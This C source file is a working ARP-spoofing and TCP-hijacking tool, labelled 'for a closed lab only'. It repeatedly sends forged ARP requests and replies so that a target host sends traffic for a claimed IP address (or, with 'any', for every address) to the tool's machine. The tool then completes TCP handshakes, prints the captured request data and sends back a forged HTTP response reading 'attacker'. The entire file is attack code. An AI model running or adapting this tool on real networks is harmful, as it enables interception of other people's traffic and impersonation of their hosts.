// For a closed lab only. Claims an address on a segment that others are on, and answers the TCP that then comes here.
// Needs the right to send raw packets and nothing else.
//
//   arp raw                                           can packets be sent at all?
//   arp take INTERFACE CLAIMED SECONDS TOLD [any]     tells TOLD that CLAIMED is here; `any`: answers for every address

#include <arpa/inet.h>
#include <linux/if_ether.h>
#include <linux/if_packet.h>
#include <net/if.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <sys/time.h>
#include <time.h>

typedef unsigned char byte;

static byte mac[6];
static struct sockaddr_ll segment;

static void put16(byte *at, unsigned value) { at[0] = value >> 8, at[1] = value; }
static void put32(byte *at, unsigned value) { put16(at, value >> 16), put16(at + 2, value); }
static unsigned get16(const byte *at) { return at[0] << 8 | at[1]; }
static unsigned get32(const byte *at) { return get16(at) << 16 | get16(at + 2); }

static unsigned checksum(const byte *bytes, int length, unsigned sum) {
  for (int i = 0; i + 1 < length; i += 2) sum += get16(bytes + i);
  if (length & 1) sum += bytes[length - 1] << 8;
  while (sum >> 16) sum = (sum & 0xffff) + (sum >> 16);
  return ~sum & 0xffff;
}

static int open_socket(void) {
  int found = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ALL));
  if (found < 0) perror("no raw socket");
  return found;
}

static int join(int wire, const char *name) {
  struct ifreq request = {0};
  strncpy(request.ifr_name, name, IFNAMSIZ - 1);
  if (ioctl(wire, SIOCGIFINDEX, &request)) return -1;
  segment = (struct sockaddr_ll){.sll_family = AF_PACKET, .sll_ifindex = request.ifr_ifindex, .sll_halen = 6};
  segment.sll_protocol = htons(ETH_P_ALL);
  if (ioctl(wire, SIOCGIFHWADDR, &request)) return -1;
  memcpy(mac, request.ifr_hwaddr.sa_data, 6);
  struct timeval patience = {.tv_usec = 50000};
  setsockopt(wire, SOL_SOCKET, SO_RCVTIMEO, &patience, sizeof patience);
  return bind(wire, (void *)&segment, sizeof segment);
}

static void send_frame(int wire, const byte *frame, int length) {
  sendto(wire, frame, length, 0, (void *)&segment, sizeof segment);
}

/** "CLAIMED is at my address", as a question and as an answer. */
static void claim(int wire, const byte *claimed, const byte *told) {
  for (int operation = 1; operation <= 2; operation++) {
    byte frame[42] = {0};
    memset(frame, 255, 6);
    memcpy(frame + 6, mac, 6);
    put16(frame + 12, ETH_P_ARP), put16(frame + 14, 1), put16(frame + 16, ETH_P_IP);
    frame[18] = 6, frame[19] = 4, put16(frame + 20, operation);
    memcpy(frame + 22, mac, 6), memcpy(frame + 28, claimed, 4), memcpy(frame + 38, told, 4);
    if (operation == 2) memset(frame + 32, 255, 6);
    send_frame(wire, frame, sizeof frame);
  }
}

/** Takes the place of whoever was meant: accepts the connection, then answers whatever was said. */
static void answer(int wire, const byte *frame) {
  const byte *ip = frame + 14, *tcp = ip + (ip[0] & 15) * 4;
  int said = get16(ip + 2) - (ip[0] & 15) * 4 - (tcp[12] >> 4) * 4, begins = tcp[13] & 2;
  if (!begins && said <= 0) return;
  if (said > 0) printf("TAKEN %.*s\n", said > 300 ? 300 : said, (const char *)tcp + (tcp[12] >> 4) * 4);
  const char *words = said > 0 ? "HTTP/1.1 200 OK\r\nContent-Length: 8\r\nConnection: close\r\n\r\nattacker" : "";
  int length = strlen(words);
  byte out[600] = {0}, *reply = out + 34;
  memcpy(out, frame + 6, 6), memcpy(out + 6, mac, 6), put16(out + 12, ETH_P_IP);
  out[14] = 0x45, put16(out + 16, 40 + length), out[22] = 64, out[23] = IPPROTO_TCP;
  memcpy(out + 26, ip + 16, 4), memcpy(out + 30, ip + 12, 4);
  put16(out + 24, checksum(out + 14, 20, 0));
  memcpy(reply, tcp + 2, 2), memcpy(reply + 2, tcp, 2);
  put32(reply + 4, begins ? 1000 : get32(tcp + 8));
  put32(reply + 8, get32(tcp + 4) + (begins ? 1 : said));
  reply[12] = 0x50, reply[13] = begins ? 0x12 : 0x19, put16(reply + 14, 65000);
  memcpy(reply + 20, words, length);
  unsigned pseudo = IPPROTO_TCP + 20 + length;
  for (int i = 26; i < 34; i += 2) pseudo += get16(out + i);
  put16(reply + 16, checksum(reply, 20 + length, pseudo));
  send_frame(wire, out, 54 + length);
}

static long milliseconds(void) {
  struct timespec now;
  clock_gettime(CLOCK_MONOTONIC, &now);
  return now.tv_sec * 1000 + now.tv_nsec / 1000000;
}

int main(int count, char **words) {
  setvbuf(stdout, 0, _IONBF, 0);
  int wire = open_socket();
  if (wire < 0) return 1;
  if (count == 2) return puts("WORKED raw socket"), 0;
  if (count < 6 || join(wire, words[2])) return perror("arp"), 2;
  byte claimed[4], told[4], frame[2048];
  inet_pton(AF_INET, words[3], claimed), inet_pton(AF_INET, words[5], told);
  long end = milliseconds() + atoi(words[4]) * 1000L, last = 0;
  while (milliseconds() < end) {
    if (milliseconds() - last > 150) last = milliseconds(), claim(wire, claimed, told);
    int length = recv(wire, frame, sizeof frame, 0);
    if (length < 54 || get16(frame + 12) != ETH_P_IP || frame[23] != IPPROTO_TCP || memcmp(frame, mac, 6)) continue;
    if (count > 6 || !memcmp(frame + 30, claimed, 4)) answer(wire, frame);
  }
  return puts("done"), 0;
}
